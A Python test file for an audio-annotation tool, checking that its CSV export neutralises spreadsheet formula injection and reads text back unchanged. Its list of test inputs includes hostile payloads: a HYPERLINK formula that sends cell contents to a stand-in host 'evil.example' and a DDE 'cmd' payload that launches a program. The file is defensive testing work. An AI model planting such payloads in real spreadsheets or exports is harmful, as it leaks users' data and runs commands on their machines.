"""CSV exports are opened in spreadsheets: text that a spreadsheet would run as a formula
(OWASP's "CSV injection") is written as text, and reads back exactly as it was."""

from __future__ import annotations

import csv
import io

import pytest

from audino.formats import registry
from audino.formats.files import InputFile
from audino.formats.options import ExportOptions
from audino.formats.records import (
    AnnotatedRecording,
    Dataset,
    LabelSpec,
    LabelValueSpec,
    ProjectInfo,
    Recording,
    SegmentRecord,
)

TRICKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
    "'plain apostrophe",
    "a = b, not a formula",
]


def _dataset(texts: list[str]) -> Dataset:
    rec = Recording(
        id=1,
        name="=cmd.wav",
        storage_key="ab/1.wav",
        duration=60.0,
        sample_rate=16000,
        channels=1,
    )
    segs = tuple(
        SegmentRecord(
            id=f"s{i}",
            recording_id=1,
            author="@alice",
            start=float(i),
            end=i + 0.5,
            transcript=text,
            values={"speaker": "=Bob", "tone": ["-flat", "+sharp"]},
        )
        for i, text in enumerate(texts)
    )
    labels = (
        LabelSpec("speaker", "single", values=(LabelValueSpec("=Bob"),)),
        LabelSpec("tone", "multi", values=(LabelValueSpec("-flat"), LabelValueSpec("+sharp"))),
    )
    return Dataset(ProjectInfo("P"), labels, (), (AnnotatedRecording(rec, segs),))


def _export(ds: Dataset) -> bytes:
    (out,) = registry.get("csv").output_files(ds, ExportOptions())
    return b"".join(out.chunks)


def test_no_cell_starts_a_formula() -> None:
    data = _export(_dataset(TRICKS)).decode()
    rows = list(csv.reader(io.StringIO(data)))
    starts = {cell[0] for row in rows for cell in row if cell}
    assert not starts & set("=+-@\t\r"), starts
    header, *body = rows
    transcripts = [row[header.index("transcript")] for row in body]
    assert transcripts[0] == "'" + TRICKS[0]
    assert transcripts[6] == "''=already quoted"  # one more apostrophe than it had
    assert transcripts[8] == "'plain apostrophe"  # not a formula: left alone
    assert transcripts[9] == "a = b, not a formula"
    assert body[0][header.index("recording")] == "'=cmd.wav"
    assert body[0][header.index("author")] == "'@alice"


@pytest.mark.parametrize("text", TRICKS)
def test_text_reads_back_exactly(text: str) -> None:
    back = registry.get("csv").read([InputFile("segments.csv", _export(_dataset([text])))])
    (item,) = back.items
    (seg,) = item.segments
    assert item.recording.name == "=cmd.wav"
    assert seg.transcript == text
    assert seg.values["tone"] == ["-flat", "+sharp"]
